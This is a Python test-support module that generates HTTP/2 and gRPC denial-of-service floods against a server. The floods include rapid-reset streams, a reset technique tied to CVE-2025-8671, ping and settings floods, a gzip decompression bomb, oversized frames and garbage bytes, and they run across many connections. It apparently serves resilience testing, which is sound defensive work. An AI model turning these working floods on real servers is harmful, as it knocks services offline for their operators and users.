"""HTTP/2 floods: a pod that sends as fast as it is let, over many connections at once.

`python -m tests.support.attacks.frame_floods NAME CONNECTIONS` runs until it is killed.
"""

from __future__ import annotations

import struct
import sys
import zlib
from collections.abc import Callable

from tests.support import http2
from tests.support.attacks.sender import Blocks, flood
from tests.support.http2 import END_HEADERS, END_STREAM, frame

_STREAMS_PER_BLOCK = 50
_LAST_STREAM = http2.MAX_STREAM
_FRAME_OF_SETTINGS = http2.MAX_FRAME_BYTES // 6
_INFLATED_BYTES = 40 * 2**20


def same(block: bytes, opening: bytes = http2.opening()) -> Callable[[], Blocks]:
    """Return a flood of the same bytes again and again, after a usual opening."""

    def blocks() -> Blocks:
        yield opening
        while True:
            yield block

    return blocks


def streams(
    method: str, of_stream: Callable[[int], bytes], fields: bytes = b""
) -> Callable[[], Blocks]:
    """Return a flood of requests, each on a stream of its own; `of_stream` ends each."""

    def blocks() -> Blocks:
        yield http2.opening()
        headers = http2.request_headers(method)
        stream = 1
        while stream < _LAST_STREAM - 2 * _STREAMS_PER_BLOCK:
            parts = []
            for _ in range(_STREAMS_PER_BLOCK):
                parts.append(frame(http2.HEADERS, END_HEADERS, stream, headers + fields))
                parts.append(of_stream(stream))
                headers = http2.REQUEST_AGAIN
                stream += 2
            yield b"".join(parts)

    return blocks


def _priorities() -> Blocks:
    """PRIORITY for streams that do not exist, never the same one."""
    yield http2.opening()
    for first in range(3, _LAST_STREAM - 2000, 2000):
        of_stream = bytes([0, 0, 0, 0, 1])
        yield b"".join(
            frame(http2.PRIORITY, 0, stream, of_stream) for stream in range(first, first + 2000, 2)
        )


def _message(stream: int) -> bytes:
    return frame(http2.DATA, END_STREAM, stream, http2.message())


def _no_message(stream: int) -> bytes:
    """The stream stays open."""
    return b""


def _message_of(size: int) -> Callable[[int], bytes]:
    # Field 15 is unknown to the request, so it is parsed and kept.
    return _in_frames(http2.message(b"\x7a" + http2.integer(size, 7)[1:] + bytes(size)))


def _in_frames(data: bytes) -> Callable[[int], bytes]:
    size = http2.MAX_FRAME_BYTES
    parts = [data[at : at + size] for at in range(0, len(data), size)]

    def of_stream(stream: int) -> bytes:
        *first, last = parts
        return b"".join(
            [
                *(frame(http2.DATA, 0, stream, part) for part in first),
                frame(http2.DATA, END_STREAM, stream, last),
            ]
        )

    return of_stream


def _gzip_bomb() -> Callable[[int], bytes]:
    packer = zlib.compressobj(wbits=31)
    packed = packer.compress(bytes(_INFLATED_BYTES)) + packer.flush()
    return _in_frames(http2.message(packed, flag=1))


def _open_stream(block: bytes, method: str = "GetPod") -> Callable[[], Blocks]:
    """Return a flood of the same bytes after the headers of stream 1."""
    headers = http2.header_frames(1, http2.request_headers(method))
    return same(block, http2.opening() + headers)


def _ended_stream(block: bytes) -> Callable[[], Blocks]:
    """Return a flood of the same bytes after a whole request on stream 1."""
    return same(block, http2.opening() + http2.request(1, http2.request_headers("GetPod")))


def one_byte_each(chunks: Callable[[], Blocks]) -> Callable[[], Blocks]:
    """Return the same flood, one byte in each write."""

    def blocks() -> Blocks:
        for block in chunks():
            for at in range(len(block)):
                yield block[at : at + 1]

    return blocks


def _of_stream(make: Callable[[int], bytes]) -> Callable[[int], bytes]:
    """Return the maker of a bad frame and a good request: a reset by the server (CVE-2025-8671)."""
    return lambda stream: make(stream) + _message(stream)


_NARROW = http2.opening(http2.DEFAULT_WINDOW, http2.DEFAULT_WINDOW)
"""Windows that WINDOW_UPDATE of one can enlarge for long."""

FLOODS: dict[str, Callable[[], Blocks]] = {
    # Frames of each kind, on the connection.
    "ping": same(frame(http2.PING, 0, 0, bytes(8)) * 900),
    "ping-ack": same(frame(http2.PING, http2.ACK, 0, bytes(8)) * 900),
    "settings": same(http2.settings({}) * 1800),
    "settings-ack": same(frame(http2.SETTINGS, http2.ACK, 0) * 1800),
    "settings-full": same(
        frame(
            http2.SETTINGS,
            0,
            0,
            struct.pack(">HI", http2.MAX_FRAME_SIZE, 16_384) * _FRAME_OF_SETTINGS,
        )
    ),
    "goaway": same(frame(http2.GOAWAY, 0, 0, bytes(8)) * 900),
    "priority": same(frame(http2.PRIORITY, 0, 1, bytes([0, 0, 0, 0, 1])) * 1100),
    "priority-streams": _priorities,
    "window-update": same(http2.window_update(0, 1) * 1200, _NARROW),
    "unknown-frames": same(frame(0xEE, 0, 0) * 1800),
    # Frames of each kind, on a stream.
    "empty-data": _open_stream(frame(http2.DATA, 0, 1) * 1800),
    "padded-data": _open_stream(frame(http2.DATA, http2.PADDED, 1, b"\0") * 1600),
    "window-update-stream": same(
        http2.window_update(1, 1) * 1200,
        _NARROW + http2.header_frames(1, http2.request_headers("Watch")),
    ),
    "reset-ended": _ended_stream(http2.rst_stream(1) * 1200),
    "data-after-answer": _open_stream(frame(http2.DATA, 0, 1, bytes(1000)) * 16, "Nothing"),
    # Streams.
    "rapid-reset": streams("GetPod", http2.rst_stream),
    "refused-streams": streams("Watch", _no_message),
    "reset-by-window-of-0": streams("GetPod", _of_stream(lambda s: http2.window_update(s, 0))),
    "reset-by-window-overflow": streams("GetPod", _of_stream(lambda s: http2.window_update(s, 1))),
    "reset-by-priority-size": streams(
        "GetPod", _of_stream(lambda s: frame(http2.PRIORITY, 0, s, bytes(4)))
    ),
    "reset-by-data-after-end": streams("GetPod", _of_stream(_message)),
    # Calls.
    "calls": streams("GetPod", _message),
    "costly-calls": streams("GetAll", _message),
    "no-such-method": streams("Nothing", _message),
    "message-at-limit": streams("GetPod", _message_of(65_000)),
    "message-past-limit": streams("GetPod", _message_of(66_000)),
    "message-inflates": streams("GetPod", _gzip_bomb(), http2.literal(b"grpc-encoding", b"gzip")),
    # Bytes.
    "one-byte-writes": one_byte_each(streams("GetPod", _message)),
    "frame-of-16-mib": _open_stream(http2.frame_header(2**24 - 1, http2.DATA, 0, 1) + bytes(2**20)),
    "garbage": same(bytes(range(256)) * 64),
}


if __name__ == "__main__":
    flood(FLOODS[sys.argv[1]], int(sys.argv[2]))
